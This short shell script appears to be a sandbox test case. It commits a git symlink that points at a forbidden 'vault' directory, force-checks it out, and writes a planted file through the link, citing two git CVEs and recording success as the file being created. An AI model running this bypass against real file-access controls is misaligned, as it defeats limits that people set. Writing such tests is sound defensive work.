# technique: checks out a tree in which the directory above a file is a link to the forbidden one
# source: CVE-2021-21300, CVE-2024-32002
# success: vault/planted was made
# control: permissive
# needs: git
# event: FileCreate
export GIT_DIR=/tmp/repository/.git GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git init -q /tmp/repository
mkdir -p /tmp/tree && ln -s vault /tmp/tree/way
git --work-tree=/tmp/tree add way && git --work-tree=/tmp/tree commit -qm link
git --work-tree=. checkout -q --force HEAD -- way && echo x >way/planted
